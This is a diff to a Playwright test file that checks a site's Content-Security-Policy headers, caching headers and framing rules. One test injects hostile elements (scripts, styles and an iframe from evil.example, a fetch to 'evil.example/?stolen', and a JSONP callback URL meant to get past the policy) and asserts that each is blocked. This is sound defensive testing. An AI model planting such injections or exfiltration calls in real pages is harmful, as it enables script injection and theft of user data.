@@ -1,20 +1,26 @@
 import { audiences, homeAudience } from '@/content/audiences';
-import { headersFile } from '@/scripts/export/headers.mjs';
+import { icons } from '@/lib/icons';
+import { filesList, hashedFiles, headersFile } from '@/scripts/export/headers.mjs';
 import { emailPolicy } from '@/scripts/export/policy.mjs';
 import { exportedFiles, noSignInExport, readExported, signInExport } from './exports';
-import { expect, pages, postViews, test, unknownPath } from './fixtures';
+import { expect, landingPage, pages, postViews, test, unknownPath } from './fixtures';
 import { identityService } from './sign-in';
 
 const [post = '', framedPost = ''] = postViews.map(({ route }) => route);
 const email = `/emails/${homeAudience.id}`;
 
-/** For each export, the hosts that its pages may reach besides their own. */
+/** For each export, the addresses that its pages may reach besides their own site's. */
 const exports = {
-  [signInExport]: ['https://apis.google.com', 'https://*.googleusercontent.com', identityService],
+  [signInExport]: [
+    'https://apis.google.com/js/api.js',
+    'https://apis.google.com/_/scs/abc-static/_/js/',
+    'https://*.googleusercontent.com',
+    identityService,
+  ],
   [noSignInExport]: [],
 };
 
-for (const [folder, hosts] of Object.entries(exports)) {
+for (const [folder, addresses] of Object.entries(exports)) {
   test(`every HTML file in ${folder} has one policy, before anything that it covers`, () => {
     const files = exportedFiles(folder, '.html');
     expect(files.length).toBeGreaterThan(pages.length + audiences.length);
@@ -36,21 +42,42 @@ for (const [folder, hosts] of Object.entries(exports)) {
         /unsafe-(eval|hashes)|(script|style|default)-src(-elem)? [^;]*unsafe-inline/,
       );
       const reached = policy.match(/(?:https?|wss?):[^\s;]*/g) ?? [];
-      expect([file, new Set(reached)]).toEqual([file, new Set(hosts)]);
+      expect([file, new Set(reached)]).toEqual([file, new Set(addresses)]);
     }
   });
 }
 
-test('each export includes a _headers file, for other hosts', () => {
-  for (const folder of Object.keys(exports))
-    expect(readExported(folder, '_headers')).toBe(headersFile());
+test('each export has its headers for other hosts, and lists its hashed files for the next release', () => {
+  for (const folder of Object.keys(exports)) {
+    const files = hashedFiles(folder);
+    expect(readExported(folder, '_headers')).toBe(headersFile(files));
+    expect(JSON.parse(readExported(folder, filesList))).toEqual(files);
+  }
+});
+
+test('each HTML file is served with its policy as a header, too', async ({ request }) => {
+  for (const file of exportedFiles(signInExport, '.html')) {
+    const [, policy] =
+      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
+        readExported(signInExport, file),
+      ) ?? [];
+    const response = await request.get(`/${file}`);
+    const frames = /^emails|embed\.html$/.test(file) ? 'self' : 'none';
+    expect([file, response.headers()['content-security-policy']]).toEqual([
+      file,
+      `${policy}; frame-ancestors '${frames}'`,
+    ]);
+  }
 });
 
 test('every file is served with the headers for its kind', async ({ request, page }) => {
-  await page.goto('/');
-  const chunk = await page.locator('script[src]').first().getAttribute('src');
+  await page.goto(landingPage.route);
+  const scripts = await page
+    .locator('script[src]')
+    .evaluateAll((all) => all.map((script) => script.getAttribute('src') ?? ''));
   const none = "frame-ancestors 'none'";
   const self = "frame-ancestors 'self'";
+  const icon = icons[0]?.file ?? '';
   const kinds: [url: string, frames: string, caching: unknown][] = [
     ...pages.map(({ route }): [string, string, string] => [route, none, 'no-cache']),
     [unknownPath, none, 'no-cache'],
@@ -58,17 +85,24 @@ test('every file is served with the headers for its kind', async ({ request, pag
     [framedPost, self, 'no-cache'],
     [email, self, 'no-cache'],
     [`${email}.txt`, self, 'no-cache'],
+    [icon, self, 'no-cache'],
     ['/no/such/page', self, expect.anything()],
-    [chunk ?? '', self, 'public, max-age=31536000, immutable'],
+    ...scripts.map((url): [string, string, string] => [
+      url,
+      self,
+      'public, max-age=31536000, immutable',
+    ]),
+    ['/_next/static/chunks/gone.js', self, 'no-cache'],
   ];
   for (const [url, frames, caching] of kinds) {
     const headers = (await request.get(url)).headers();
     expect({ url, ...headers }).toMatchObject({
       url,
-      'content-security-policy': frames,
+      'content-security-policy': expect.stringMatching(new RegExp(`${frames}$`)),
       'cache-control': caching,
       'strict-transport-security': expect.stringMatching(/^max-age=/),
       'cross-origin-opener-policy': 'same-origin-allow-popups',
+      'cross-origin-resource-policy': url === icon ? 'cross-origin' : 'same-origin',
       'x-content-type-options': 'nosniff',
       'referrer-policy': 'strict-origin-when-cross-origin',
       'permissions-policy': expect.stringContaining('camera=()'),
@@ -83,8 +117,9 @@ test.describe('code injected into a page', () => {
     page,
   }) => {
     await page.goto('/');
-    const violations: string[] = [];
-    await page.exposeFunction('report', (violation: string) => violations.push(violation));
+    // A set, because the policy is both in the HTML and in a header, and each one reports.
+    const violations = new Set<string>();
+    await page.exposeFunction('report', (violation: string) => void violations.add(violation));
     await page.evaluate(() => {
       document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
         // oxlint-disable-next-line typescript/no-unsafe-type-assertion
@@ -95,6 +130,7 @@ test.describe('code injected into a page', () => {
       const intruders = [
         ['script', { textContent: 'document.title = "inline"' }],
         ['script', { src: 'https://evil.example/a.js' }],
+        ['script', { src: 'https://apis.google.com/complete?callback=alert' }],
         ['style', { textContent: 'body { outline: 9px solid }' }],
         ['link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }],
         ['iframe', { src: 'https://evil.example/' }],
@@ -109,13 +145,14 @@ test.describe('code injected into a page', () => {
       fetch('https://evil.example/?stolen').catch(() => {});
     });
     await expect
-      .poll(() => violations.toSorted())
+      .poll(() => [...violations].toSorted())
       .toEqual([
         'connect-src https://evil.example/?stolen',
         'frame-src https://evil.example',
         'img-src https://evil.example/a.png',
         'script-src eval',
         'script-src-attr inline',
+        'script-src-elem https://apis.google.com/complete?callback=alert',
         'script-src-elem https://evil.example/a.js',
         'script-src-elem inline',
         'style-src-elem https://evil.example/a.css',
